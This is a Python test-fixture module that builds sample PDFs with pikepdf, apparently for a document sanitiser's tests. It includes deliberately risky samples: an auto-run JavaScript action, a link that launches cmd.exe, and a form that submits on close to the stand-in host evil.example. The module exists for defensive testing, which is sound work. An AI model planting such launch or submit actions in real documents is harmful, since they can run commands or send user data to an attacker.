"""PDFs, good and bad, made when they are asked for."""

from io import BytesIO
from typing import Any

import pikepdf


def pdf(pages: int = 1, **options: Any) -> bytes:
    return saved(pikepdf.Pdf.new(), pages, **options)


def saved(made: pikepdf.Pdf, pages: int = 1, **options: Any) -> bytes:
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    out = BytesIO()
    made.save(out, **options)
    return out.getvalue()


def with_script() -> bytes:
    made = pikepdf.Pdf.new()
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    return saved(made)


def with_launch() -> bytes:
    made = pikepdf.Pdf.new()
    made.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    made.pages[0].Annots = pikepdf.Array([note])  # direct in the page: no object of its own
    return saved(made)


def with_attachment() -> bytes:
    made = pikepdf.Pdf.new()
    made.attachments["budget.xlsx"] = b"PK\x03\x04"
    return saved(made)


def with_form_that_sends() -> bytes:
    made = pikepdf.Pdf.new()
    made.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example"))
    return saved(made)


def with_film() -> bytes:
    made = pikepdf.Pdf.new()
    made.add_blank_page()
    made.pages[0].Annots = made.make_indirect(
        pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])])
    )
    return saved(made)


def encrypted(user: str = "secret") -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def of_size(size: int) -> bytes:
    """A PDF that opens, of exactly so many bytes."""
    made = pdf()
    return made + b"%" * (size - len(made))


def by(author: str) -> bytes:
    """A PDF that names its author in every place beside its pages."""
    made = pikepdf.Pdf.new()
    made.add_blank_page()
    made.docinfo["/Author"] = author
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [author]
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], T=author, Contents="See here"
    )
    made.pages[0].Annots = pikepdf.Array([note])
    made.pages[0].PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private=pikepdf.String(author)))
    return saved(made)


def authors(data: bytes) -> list[str]:
    """Every text in it that is no name of PDF's own, outside of the notes' words."""
    with pikepdf.open(BytesIO(data)) as pdf:
        told = [str(value) for value in pdf.docinfo.values()] if "/Info" in pdf.trailer else []
        told += ["/Metadata"] if "/Metadata" in pdf.Root else []
        told += ["/PieceInfo" for page in pdf.pages if "/PieceInfo" in page]
        return told + [str(note.T) for page in pdf.pages for note in page.get("/Annots", []) if "/T" in note]


def written(texts: list[str]) -> bytes:
    """A page for each text, with the text on it in Helvetica."""
    made = pikepdf.Pdf.new()
    font = made.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    for text in texts:
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
        page.obj.Contents = made.make_stream(f"BT /F 40 Tf 60 700 Td ({text}) Tj ET".encode())
    out = BytesIO()
    made.save(out)
    return out.getvalue()
